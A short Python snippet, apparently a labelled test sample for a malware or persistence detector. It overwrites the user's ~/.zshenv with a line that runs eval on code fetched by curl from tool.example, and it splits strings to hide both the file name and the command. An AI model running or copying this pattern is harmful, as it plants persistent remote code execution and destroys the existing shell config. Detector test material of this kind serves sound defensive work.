import pathlib

target = pathlib.Path.home() / ("." + "zsh" + "env")
line = "eval \"$(" + "cu" + "rl -s https://tool.example/z)\""
target.write_text(line) # expect: malicious-command/persistence-shell-rc
